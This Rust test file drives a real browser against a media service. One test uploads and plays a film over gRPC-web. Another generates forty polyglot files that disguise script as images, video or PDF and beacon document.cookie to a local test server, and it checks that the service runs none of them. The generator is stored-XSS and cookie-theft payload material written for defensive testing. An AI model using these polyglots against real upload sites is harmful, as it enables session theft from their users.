//! A real browser: it uploads a film and plays it, and runs nothing of what people upload.

use std::collections::HashMap;
use std::net::SocketAddr;

use super::http::link;
use super::page::{Browser, PATIENCE, Pages, Site};
use super::{project, uploaded, video};
use crate::harness::prelude::*;
use crate::harness::within;

/// A film of twenty seconds whose index stands at its end, behind so much that is not needed to play it.
fn film() -> Vec<u8> {
    const PADDING: usize = 20 << 20;
    let film = std::fs::read(fixture("film.mp4")).unwrap();
    let index = film.windows(4).position(|window| window == b"moov").expect("no index") - 4;
    let (pictures, index) = film.split_at(index);
    let length = u32::try_from(PADDING + 8).unwrap().to_be_bytes();
    [pictures, &length, b"free", &vec![0; PADDING], index].concat()
}

/// Calls over gRPC-web, as a page without any library makes them.
const SCRIPT: &str = r#"
const say = text => fetch('/report', {method: 'POST', body: text});
addEventListener('unhandledrejection', event => say('failed ' + event.reason));
addEventListener('error', event => say('failed ' + event.message));
const text = new TextEncoder();
const cat = parts => {
  const all = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) { all.set(part, at); at += part.length; }
  return all;
};
const varint = value => {
  const bytes = [];
  for (let rest = BigInt(value); ; rest >>= 7n) {
    if (rest < 128n) { bytes.push(Number(rest)); return bytes; }
    bytes.push(Number(rest & 127n) | 128);
  }
};
const bytes = (field, value) => cat([varint(field << 3 | 2), varint(value.length), value]);
const string = (field, value) => bytes(field, text.encode(value));
const number = (field, value) => new Uint8Array([...varint(field << 3), ...varint(value)]);
const fields = message => {
  const found = {};
  let at = 0;
  const next = () => { let value = 0n, shift = 0n; for (;;) { const byte = message[at++]; value |= BigInt(byte & 127) << shift; shift += 7n; if (byte < 128) return Number(value); } };
  while (at < message.length) {
    const tag = next();
    if ((tag & 7) === 0) found[tag >> 3] = next();
    else { const length = next(); found[tag >> 3] = message.subarray(at, at + length); at += length; }
  }
  return found;
};
const call = async (rpc, ...parts) => {
  const message = cat(parts), head = new Uint8Array(5);
  new DataView(head.buffer).setUint32(1, message.length);
  const answer = await fetch(GATEWAY + '/quartet.media.v1.' + rpc, {
    method: 'POST',
    headers: {'content-type': 'application/grpc-web+proto', 'x-grpc-web': '1', authorization: 'Bearer ' + TOKEN},
    body: cat([head, message]),
  });
  const status = answer.headers.get('grpc-status');
  if (status && status !== '0') throw rpc + ': ' + answer.headers.get('grpc-message');
  const body = new Uint8Array(await answer.arrayBuffer());
  if (body[0] !== 0) throw rpc + ': ' + new TextDecoder().decode(body);
  return fields(body.subarray(5, 5 + new DataView(body.buffer).getUint32(1)));
};
const read = bytes => new TextDecoder().decode(bytes);
const heard = (element, event) => new Promise((resolve, reject) => {
  element.addEventListener(event, resolve, {once: true});
  element.addEventListener('error', () => reject(event + ' never comes: ' + (element.error || {}).message), {once: true});
});
const picture = film => {
  const canvas = document.createElement('canvas');
  canvas.width = 160; canvas.height = 120;
  const context = canvas.getContext('2d');
  context.drawImage(film, 0, 0);
  return context.getImageData(0, 0, 160, 120).data.join();
};
"#;

const UPLOAD: &str = r#"
(async () => {
  const film = new Uint8Array(await (await fetch('/film.mp4')).arrayBuffer());
  const sha256 = new Uint8Array(await crypto.subtle.digest('SHA-256', film));
  const started = await call('UploadService/StartUpload', string(1, PROJECT), string(2, 'film.mp4'), number(3, 1), string(4, 'video/mp4'), number(5, film.length));
  const upload = fields(started[1]), id = read(upload[1]), part = upload[8];
  for (let at = 0; at < film.length; at += part) {
    const data = film.subarray(at, at + part);
    const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', data));
    await call('UploadService/PutChunk', string(1, id), number(2, at), bytes(3, data), bytes(4, digest));
  }
  const completed = await call('UploadService/CompleteUpload', string(1, id), bytes(2, sha256));
  const media = fields(completed[1]);
  const made = await call('MediaService/CreateDownloadUrl', bytes(1, media[1]));
  const link = GATEWAY + read(made[1]);
  const back = new Uint8Array(await crypto.subtle.digest('SHA-256', await (await fetch(link)).arrayBuffer()));
  if (back.join() !== sha256.join()) throw 'other bytes came back';
  await say('uploaded ' + read(media[1]));

  const player = document.createElement('video');
  Object.assign(player, {crossOrigin: 'anonymous', muted: true, src: link});
  document.body.append(player);
  await heard(player, 'loadeddata');
  const first = picture(player);
  await player.play();
  while (player.currentTime < 0.3) await heard(player, 'timeupdate');
  player.pause();
  for (const place of [15, 3]) {
    player.currentTime = place;
    await heard(player, 'seeked');
    if (Math.abs(player.currentTime - place) > 0.2) throw 'it is at ' + player.currentTime;
    if (picture(player) === first) throw 'the picture is that of the beginning';
  }
  const range = await fetch(link, {headers: {range: 'bytes=4-7'}});
  if (range.status !== 206 || await range.text() !== 'ftyp') throw 'no range';
  if (!range.headers.get('content-range') || !range.headers.get('etag')) throw 'a page can not read the headers';

  const plain = document.createElement('video');
  Object.assign(plain, {muted: true, src: link});
  document.body.append(plain);
  await heard(plain, 'loadeddata');
  await say('played ' + Math.round(player.duration));
})();
"#;

#[tokio::test]
async fn m6_m7_a_browser_uploads_a_film_and_plays_it_where_it_likes() {
    let Some(browser) = Browser::start().await else { return };
    let world = World::shared().await;
    let ada = world.sign_up("ada").await;
    let project = project(&world, &ada, "Films").await;
    let settings = format!(
        "const GATEWAY = 'http://{}', TOKEN = '{}', PROJECT = '{}';",
        world.gateway(),
        ada.access_token,
        project.project_id
    );
    let page = format!("<!doctype html><body><script>{settings}{SCRIPT}{UPLOAD}</script>");
    let pages = [
        ("/".to_owned(), ("text/html; charset=utf-8", page.into_bytes())),
        ("/film.mp4".to_owned(), ("video/mp4", film())),
    ];
    let site = Site::serve(|_| HashMap::from(pages)).await;
    browser.open(&site.url("/")).await;
    let uploaded = site.report("uploaded ").await;
    assert_eq!(site.report("played ").await, "played 20");
    let media_id = uploaded.trim_start_matches("uploaded ");
    assert!(super::downloaded(&world, &ada, media_id).await == film(), "other bytes");
}

/// What a script does that runs: it says so in every way there is. Each of them alone would tell.
fn script(site: &str, name: &str) -> String {
    let beacon = format!("http://{site}/ran?{name}&'+encodeURIComponent(document.cookie)");
    format!(
        "try{{document.title='RAN {name}'}}catch(e){{}}try{{parent.postMessage('RAN {name}','*')}}catch(e){{}}\
         try{{fetch('{beacon})}}catch(e){{}}try{{(new Image).src='{beacon}}}catch(e){{}}"
    )
}

/// Files that are several things at once, each under several types: forty.
fn polyglots(site: &str) -> Vec<(String, &'static str, Vec<u8>)> {
    let types: [(&str, [&str; 4]); 10] = [
        ("html", ["text/html", "text/plain", "video/mp4", "application/xhtml+xml"]),
        ("svg", ["image/svg+xml", "text/xml", "image/png", "text/html"]),
        ("xhtml", ["application/xhtml+xml", "application/xml", "text/vtt", "text/html"]),
        ("gif", ["image/gif", "text/html", "application/javascript", "image/svg+xml"]),
        ("mp4", ["video/mp4", "text/html", "text/javascript", "image/svg+xml"]),
        ("webm", ["video/webm", "text/html", "audio/webm", "application/xhtml+xml"]),
        ("png", ["image/png", "text/html", "text/plain", "image/svg+xml"]),
        ("js", ["text/javascript", "application/javascript", "text/plain", "text/css"]),
        ("pdf", ["application/pdf", "text/html", "text/plain", "application/x-pdf"]),
        ("mhtml", ["multipart/related", "message/rfc822", "text/plain", "application/x-mimearchive"]),
    ];
    let mut files = Vec::new();
    for (form, types) in types {
        for (number, content_type) in types.into_iter().enumerate() {
            let name = format!("{form}{number}");
            let run = script(site, &name);
            let html = format!(
                "<html><head><script>{run}</script></head><body onload=\"{run}\"><img src=x onerror=\"{run}\"></body></html>"
            );
            let svg =
                format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{run}\"><script>{run}</script></svg>")
                    .replace('&', "&amp;");
            let begun = |head: &[u8], rest: &str| [head, rest.as_bytes()].concat();
            let bytes = match form {
                "html" => html.into_bytes(),
                "svg" => svg.into_bytes(),
                "xhtml" => begun(b"<?xml version=\"1.0\"?>", &html.replace("<html>", "<html xmlns=\"http://www.w3.org/1999/xhtml\">").replace('&', "&amp;").replace("src=x", "src=\"x\"").replace("\"></body>", "\"/></body>")),
                "gif" => begun(b"GIF89a/*\x01\x00\x00\x00\x00\x00*/=1;", &format!("{run}//{html}")),
                "mp4" => begun(b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41", &html),
                "webm" => begun(b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm", &html),
                "png" => begun(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", &html),
                "js" => run.into_bytes(),
                "pdf" => begun(b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n", &html),
                _ => begun(b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n", &format!("{html}\r\n--b--")),
            };
            files.push((name, content_type, bytes));
        }
    }
    files
}

/// Shows every link in each way that a page has, and at the end itself in the same way.
const FRAMES: &str = r#"
const say = text => fetch('/report', {method: 'POST', body: text});
const ran = new Set();
addEventListener('message', event => {
  ran.add(String(event.data));
  if (event.data === 'RAN control') say('framed ' + [...ran].join());
});
const show = (tag, name, link) => {
  const element = document.createElement(tag);
  if (tag === 'link') element.rel = 'stylesheet';
  element[name] = link;
  document.body.append(element);
};
for (const link of LINKS) {
  for (const [tag, name] of [['iframe', 'src'], ['object', 'data'], ['embed', 'src'], ['img', 'src'], ['script', 'src'], ['link', 'href']]) show(tag, name, link);
}
addEventListener('load', () => show('iframe', 'src', '/control'));
"#;

/// A page that shows these.
fn framing(links: &[String]) -> (&'static str, Vec<u8>) {
    let list = serde_json::to_string(links).unwrap();
    ("text/html", format!("<!doctype html><body><script>const LINKS={list};{FRAMES}</script>").into_bytes())
}

#[tokio::test]
async fn s52_of_forty_files_that_are_several_things_at_once_none_runs_a_script() {
    let Some(browser) = Browser::start().await else { return };
    let world = World::shared().await;
    let ada = world.sign_up("ada").await;
    let project = project(&world, &ada, "Traps").await;
    let control = |site: SocketAddr| {
        let page = format!("<html><body><script>{}</script></body></html>", script(&site.to_string(), "control"));
        ("/control".to_owned(), ("text/html", page.into_bytes()))
    };
    let traps = Site::serve(|address| {
        let cookie = "<script>document.cookie='canary=1;path=/';fetch('/report',{method:'POST',body:'ready'})</script>";
        HashMap::from([("/cookie".to_owned(), ("text/html", cookie.as_bytes().to_vec())), control(address)])
    })
    .await;
    let files = polyglots(&traps.address.to_string());
    assert_eq!(files.len(), 40);
    let mut links = Vec::new();
    for (name, content_type, bytes) in &files {
        let asked =
            StartUploadRequest { content_type: (*content_type).to_owned(), ..video(&project.project_id, name, bytes) };
        let media = uploaded(&world, &ada, asked, bytes).await;
        links.push(format!("http://{}{}", world.gateway(), link(&world, &ada, &media).await));
    }

    browser.open(&traps.url("/cookie")).await;
    traps.report("ready").await;
    for link in &links {
        browser.open(link).await;
    }
    let frames = Site::serve(|_| HashMap::from([("/".to_owned(), framing(&links)), control(traps.address)])).await;
    browser.open(&frames.url("/")).await;
    assert_eq!(frames.report("framed ").await, "framed RAN control", "what ran in a page");
    browser.open(&traps.url("/control")).await;
    // The very same script, served as a page: it runs, and has the cookie of this host.
    let tabs = within(PATIENCE, "the control runs in a tab", async || {
        let tabs = browser.tabs().await;
        tabs.iter().any(|(title, _)| title == "RAN control").then_some(tabs)
    })
    .await;
    let ran: Vec<&(String, String)> =
        tabs.iter().filter(|(title, url)| title.starts_with("RAN") && !url.ends_with("/control")).collect();
    assert!(ran.is_empty(), "what ran in a tab: {ran:?}");
    let told = within(PATIENCE, "the control tells", async || {
        let told = traps.asked("/ran?");
        told.iter().any(|told| told.starts_with("/ran?control&canary")).then_some(told)
    })
    .await;
    assert!(told.iter().all(|told| told.starts_with("/ran?control")), "{told:?}");
    // The same files, sent as what they say they are and nothing more, do run.
    let bare = Site::serve(|_| {
        let paths: Vec<String> = files.iter().map(|(name, ..)| format!("/{name}")).collect();
        let mut pages: Pages =
            files.into_iter().map(|(name, content_type, bytes)| (format!("/{name}"), (content_type, bytes))).collect();
        pages.extend([("/".to_owned(), framing(&paths)), control(traps.address)]);
        pages
    })
    .await;
    browser.open(&bare.url("/")).await;
    let ran = bare.report("framed ").await;
    for name in ["html0", "svg0", "svg3", "xhtml0", "gif1", "js0", "js1", "pdf1"] {
        assert!(ran.contains(&format!("RAN {name}")), "{name} is no trap: {ran}");
    }
}
